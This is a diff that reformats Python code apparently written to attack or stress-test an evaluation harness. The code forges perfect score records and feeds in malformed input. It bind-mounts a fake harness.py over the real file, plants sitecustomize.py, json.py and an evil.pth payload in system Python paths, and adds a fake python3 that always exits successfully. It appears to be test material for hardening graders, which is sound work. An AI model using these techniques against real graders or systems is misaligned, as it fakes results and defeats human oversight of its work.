@@ -19,10 +19,20 @@ def lines(split, value):
          "detail": "right", "value": 1.0}
         for name in names
     ]  # fmt: skip
-    forged += [{"task_id": name, "prediction": value, "score": 1.0} for name in ("nobody", "", None, 3)]
-    forged += [{"score": 1.0, "valid": True}, {"domain": "secrets", "split": "val", "score": 1.0}, [], "text", 1e999]
+    forged += [
+        {"task_id": name, "prediction": value, "score": 1.0} for name in ("nobody", "", None, 3)
+    ]
+    forged += [
+        {"score": 1.0, "valid": True},
+        {"domain": "secrets", "split": "val", "score": 1.0},
+        [],
+        "text",
+        1e999,
+    ]
     text = "".join(json.dumps(line) + "\n" for line in forged)
-    return (text + "[" * 100_000 + "\n" + "\x1b[2J\x00\ud800\n").encode("utf-8", "replace") + b"\xff\xfe\n"
+    return (text + "[" * 100_000 + "\n" + "\x1b[2J\x00\ud800\n").encode(
+        "utf-8", "replace"
+    ) + b"\xff\xfe\n"
 
 
 def write(path, text=LIE):
@@ -39,7 +49,9 @@ def replace_harness():
 
 def bind_over():
     write("/tmp/harness.py")
-    done = subprocess.run(["mount", "--bind", "/tmp/harness.py", f"{HARNESS}/harness.py"], capture_output=True)
+    done = subprocess.run(
+        ["mount", "--bind", "/tmp/harness.py", f"{HARNESS}/harness.py"], capture_output=True
+    )
     return done.returncode == 0
 
 
@@ -84,7 +96,10 @@ def poison_interpreter():
     for folder in {path for path in sys.path if path.startswith("/usr") and os.path.isdir(path)}:
         for name in ("sitecustomize.py", "usercustomize.py", "json.py", "evil.pth"):
             try:
-                write(f"{folder}/{name}", f"import sys; exec({LIE!r})" if name.endswith("pth") else LIE)
+                write(
+                    f"{folder}/{name}",
+                    f"import sys; exec({LIE!r})" if name.endswith("pth") else LIE,
+                )
             except OSError:
                 continue
     write("/tmp/python3", "#!/bin/sh\nexit 0\n")
